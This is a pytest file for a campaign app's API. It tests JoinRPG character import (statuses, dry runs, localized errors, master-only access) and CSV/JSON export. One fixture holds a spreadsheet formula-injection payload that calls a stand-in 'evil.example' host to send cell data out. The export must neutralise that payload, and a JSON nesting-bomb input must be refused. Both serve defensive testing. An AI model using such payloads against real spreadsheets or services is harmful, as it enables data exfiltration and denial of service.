"""The API side of issue 26: ``POST …/characters/import`` with ``format: joinrpg`` (each
character's status, re-import, mapping by name, bad rows refused whole in the caller's
language, masters only) and ``GET …/export/characters?format=csv|json`` (masters
only, headers in the caller's language, formula-looking cells neutralised)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from httpx import Response

from lazaretto.api.app import create_app
from lazaretto.core.character import Character
from lazaretto.service.accounts import AccountService
from lazaretto.service.campaigns import CampaignService
from lazaretto.service.demo import CAMPAIGN, seed
from lazaretto.store.db import Database

URL = f"/api/campaigns/{CAMPAIGN}/characters/import"
EXPORT = f"/api/campaigns/{CAMPAIGN}/export/characters"
EXAMPLE = Path(__file__).parents[2] / "docs" / "examples" / "joinrpg-roster.json"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def db(database_url: str) -> Iterator[Database]:
    database = Database(database_url)
    campaigns = CampaignService(database)
    seed(campaigns, AccountService(database))  # characters 1001-1006
    campaigns.add_character(CAMPAIGN, Character(id="2001", name=FORMULA, hits_max=3, hits=3))
    yield database
    database.close()


@pytest.fixture
def client(db: Database) -> Iterator[TestClient]:
    with TestClient(create_app(db, ticker=False)) as c:
        yield c


def bearer(client: TestClient, user: str, lang: str = "en") -> dict[str, str]:
    r = client.post("/api/login", json={"username": user, "password": f"{user}-demo"})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['token']}", "Accept-Language": lang}


def roster() -> str:
    """The documented example, its CharacterIds moved clear of the demo's 1001-1006."""
    doc = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    for ch in doc["characters"]:
        ch["CharacterId"] += 4000
    return json.dumps(doc, ensure_ascii=False)


def send(client: TestClient, who: dict[str, str], **body: Any) -> Response:
    return client.post(URL, json={"format": "joinrpg", "text": roster(), **body}, headers=who)


def card(client: TestClient, who: dict[str, str], cid: str) -> dict[str, Any]:
    found: dict[str, Any] = client.get(
        f"/api/campaigns/{CAMPAIGN}/characters/{cid}", headers=who
    ).json()
    return found


def test_a_master_imports_a_joinrpg_roster_and_sees_each_character(client: TestClient) -> None:
    gm = bearer(client, "master")
    r = send(client, gm, fields={"age": "Возраст"})
    assert r.status_code == 201, r.text
    answer = r.json()
    assert (answer["added"], answer["skipped"], answer["imported"]) == (2, 2, 2)
    assert [row["status"] for row in answer["rows"]] == ["added", "added", "skipped", "skipped"]
    assert answer["rows"][2]["message"] == "an NPC"
    vera = card(client, gm, "5001")
    assert (vera["name"], vera["age"], vera["hits_max"]) == ("Вера Травница", 34, 12)


def test_a_second_import_adds_nothing_and_says_unchanged(client: TestClient) -> None:
    gm = bearer(client, "master")
    assert send(client, gm, fields={"age": "Возраст"}).status_code == 201
    again = send(client, gm, fields={"age": "Возраст"})
    assert again.status_code == 200
    assert (again.json()["unchanged"], again.json()["record"]) == (2, None)


def test_a_dry_run_imports_nothing_and_speaks_russian(client: TestClient) -> None:
    gm = bearer(client, "master", "ru")
    r = send(client, gm, dry_run=True, include_npc=True, include_inactive=True)
    assert r.status_code == 200 and r.json()["added"] == 4 and r.json()["record"] is None
    assert client.get(f"/api/campaigns/{CAMPAIGN}/characters/5001", headers=gm).status_code == 404
    skipped = send(client, gm, dry_run=True).json()["rows"][3]["message"]
    assert skipped == "неактивен (удалён в JoinRPG)"


@pytest.mark.parametrize(
    ("lang", "words"), [("en", "'много' is not a whole number"), ("ru", "'много' — не целое")]
)
def test_bad_rows_are_refused_whole_in_the_callers_language(
    client: TestClient, lang: str, words: str
) -> None:
    gm = bearer(client, "master", lang)
    doc = json.loads(roster())
    doc["characters"][0]["Fields"][0]["Value"] = "много"
    r = client.post(URL, headers=gm, json={"format": "joinrpg", "text": json.dumps(doc)})
    assert r.status_code == 422
    [error] = r.json()["errors"]
    assert (error["line"], error["id"], error["name"]) == (1, "5001", "Вера Травница")
    assert words in error["message"]
    assert client.get(f"/api/campaigns/{CAMPAIGN}/characters/5002", headers=gm).status_code == 404


def test_the_metadata_may_come_as_its_own_text(client: TestClient) -> None:
    gm = bearer(client, "master")
    doc = json.loads(roster())
    r = client.post(
        URL,
        headers=gm,
        json={
            "format": "joinrpg",
            "text": json.dumps(doc["characters"]),
            "metadata": json.dumps(doc["metadata"]),
            "dry_run": True,
        },
    )
    assert r.status_code == 200 and r.json()["added"] == 2


def test_a_nesting_bomb_is_a_clear_422(client: TestClient) -> None:
    gm = bearer(client, "master")
    r = client.post(URL, headers=gm, json={"format": "joinrpg", "text": "[" * 100_000})
    assert r.status_code == 422 and "JoinRPG" in r.json()["message"]


@pytest.mark.parametrize("user", ["player", "healer"])
def test_only_masters_import_and_export(client: TestClient, user: str) -> None:
    who = bearer(client, user)
    assert send(client, who, dry_run=True).status_code == 403
    assert client.get(EXPORT, headers=who).status_code == 403
    assert client.get(EXPORT, headers=who, params={"format": "json"}).status_code == 403


@pytest.mark.parametrize(
    ("lang", "first"), [("en", ["id", "name", "group"]), ("ru", ["id", "имя", "группа"])]
)
def test_the_export_downloads_a_csv_in_the_callers_language(
    client: TestClient, lang: str, first: list[str]
) -> None:
    gm = bearer(client, "master", lang)
    assert send(client, gm).status_code == 201
    r = client.get(EXPORT, headers=gm)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.headers["content-disposition"].startswith('attachment; filename="characters-')
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][:3] == first and len(rows[0]) == 10
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id["5001"][2] == "Госпиталь Ордена"
    assert by_id["2001"][1] == f"'{FORMULA}"  # neutralised
    assert not [c for row in rows for c in row if c.startswith(("=", "+", "@"))]


def test_the_export_as_json(client: TestClient) -> None:
    gm = bearer(client, "master")
    r = client.get(EXPORT, headers=gm, params={"format": "json"})
    assert r.status_code == 200
    rows = {row["id"]: row for row in r.json()}
    assert rows["1002"]["diseases"] == ["GF-1"] and rows["1002"]["alive"] is True
    assert client.get(EXPORT, headers=gm, params={"format": "pdf"}).status_code == 422
